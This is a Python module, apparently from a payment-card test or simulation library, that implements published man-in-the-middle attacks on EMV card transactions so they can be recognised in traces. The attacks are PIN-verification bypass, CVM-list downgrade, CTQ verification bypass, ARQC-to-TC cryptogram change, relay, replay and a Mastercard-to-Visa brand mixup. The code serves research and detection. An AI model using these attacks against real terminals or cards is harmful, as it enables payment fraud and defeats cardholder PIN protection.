# SPDX-License-Identifier: MIT
"""A man in the middle between terminal and card: each attack is a function over `transmit` that really changes bytes.

All of them are published, by the authors who are named. They are here to be found in a trace.
"""

from __future__ import annotations

from collections.abc import Callable

from cardlib.apps.emv import parse_afl
from cardlib.core.tlv import first, scan

from .personal import filled, joined, split, tlv
from .times import Transmit

Attack = Callable[[Transmit], Transmit]
VISA, MASTERCARD = bytes.fromhex("A0000000031010"), bytes.fromhex("A0000000041010")
VISA_PDOL = bytes.fromhex("9F66049F02069F03069F1A0295055F2A029A039C019F3704")
VISA_FCI = (  # as a Visa-like card answers: label, priority, PDOL, languages
    tlv("50", b"TEST CREDIT") + tlv("87", b"\1") + tlv("9F38", VISA_PDOL) + tlv("5F2D", b"ende")
)


def changed(answer: bytes, tag: str, value: bytes) -> bytes:
    """An answer in which a data element has another value of the same length."""
    for found, _, _, start, stop, _ in scan(answer[:-2]):
        if found == tag and stop - start == len(value):
            return answer[:start] + value + answer[stop:]
    return answer


def put(tag: str, value: str) -> Attack:
    """Change one data element wherever the card sends it."""

    def attack(card: Transmit) -> Transmit:
        return lambda command: changed(card(command), tag, bytes.fromhex(value))

    return attack


def no_pin(card: Transmit) -> Transmit:
    """Any PIN is right: the card never sees VERIFY (Murdoch, Drimer, Anderson, Bond 2010)."""
    return lambda command: b"\x90\0" if command[1] == 0x20 else card(command)


def downgraded_list(card: Transmit) -> Transmit:
    """The CVM list asks for the PIN in clear (Barisani, Bianco, Laurie, Franken 2011)."""
    return put("8E", "000000000000000041031F03")(card)


def ctq_bypass(card: Transmit) -> Transmit:
    """The middle says that the holder was verified on the device (Basin, Sasse, Toro-Pozo 2021)."""
    return put("9F6C", "0080")(card)


def offline_type(card: Transmit) -> Transmit:
    """An ARQC becomes a TC on the way: nobody asks the issuer (Basin, Sasse, Toro-Pozo 2021).

    The card is told that a signature is wanted online, too (TTQ): so the terminal finds one, and it is right.
    """

    def transmit(command: bytes) -> bytes:
        if command[1] == 0xA8:
            command = command[:7] + bytes((command[7] | 1,)) + command[8:]
        return changed(card(command), "9F27", b"\x40")

    return transmit


def relay(wait: Callable[[int], None], ms: int) -> Attack:
    """The card is far away: each command takes `ms` longer, and nothing else changes."""

    def attack(card: Transmit) -> Transmit:
        def transmit(command: bytes) -> bytes:
            wait(ms)
            return card(command)

        return transmit

    return attack


def replay(kept: dict[bytes, bytes]) -> Attack:
    """No card at all: what one answered before is said again, to the same commands (Bond and others 2014)."""
    return lambda card: lambda command: kept.get(command, b"\x6a\x82")


def brand_mixup(card: Transmit, wait: Callable[[int], None] = lambda ms: None) -> Transmit:
    """A Mastercard-like card looks Visa-like, so that no PIN is asked (Basin, Sasse, Toro-Pozo 2021)."""
    said: dict[str, bytes] = {}

    def ask(header: str, data: bytes = b"") -> bytes:
        wait(12)
        return card(bytes.fromhex(header) + (bytes((len(data),)) + data if data else b"") + b"\0")[
            :-2
        ]

    def pay(values: bytes) -> bytes:
        """The whole dialogue with the card, in one command of the terminal's."""
        told = split(VISA_PDOL, values) or {}
        ask("00A40400", MASTERCARD)
        options = first(ask("80A80000", b"\x83\0"), "82", "94")
        for entry in parse_afl(options["94"]):
            for number in range(entry.first, entry.last + 1):
                said.update(
                    first(ask(f"00B2{number:02X}{entry.sfi << 3 | 4:02X}"), "57", "5F34", "8C")
                )
        answer = first(ask("80AE8000", filled(said["8C"], told)), "9F26", "9F36", "9F10", "9F27")
        shown = options | answer | said | {"9F6C": b"\0\x80"}
        return (
            tlv(
                "77",
                joined(shown, ("82", "94", "9F36", "9F26", "9F10", "9F27", "9F6C", "57", "5F34")),
            )
            + b"\x90\0"
        )

    def transmit(command: bytes) -> bytes:
        if command[1] == 0xA8:
            return pay(command[7:-1])
        if command[1] == 0xA4 and command[5:12] == VISA:
            card(command.replace(VISA, MASTERCARD))
            return tlv("6F", tlv("84", VISA) + tlv("A5", VISA_FCI)) + b"\x90\0"
        return card(command).replace(MASTERCARD, VISA)

    return transmit
